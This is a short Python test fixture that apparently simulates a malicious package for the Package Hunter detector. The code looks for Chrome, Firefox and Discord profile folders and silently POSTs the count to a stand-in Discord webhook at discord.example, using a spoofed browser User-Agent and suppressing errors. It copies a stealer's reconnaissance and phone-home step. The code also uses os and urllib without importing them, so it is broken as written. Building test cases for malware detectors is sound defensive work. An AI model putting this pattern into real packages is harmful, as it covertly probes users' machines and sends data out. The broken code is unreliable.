"""The honest twin of a harmless simulation for testing Package Hunter. Not malware."""

import glob
import json

found = [
    pattern
    for pattern in ("~/.config/google-chrome", "~/.mozilla/firefox/*", "~/.config/discord")
    if glob.glob(os.path.expanduser(pattern))
]
body = json.dumps({"username": "simulation", "content": "py-colorful 1.0.0", "browsers": len(found)}).encode()
request = urllib.request.Request("https://discord.example/api/webhooks/1/simulation", body,
                                 {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
try:
    urllib.request.urlopen(request, timeout=10).close()
except OSError:
    pass
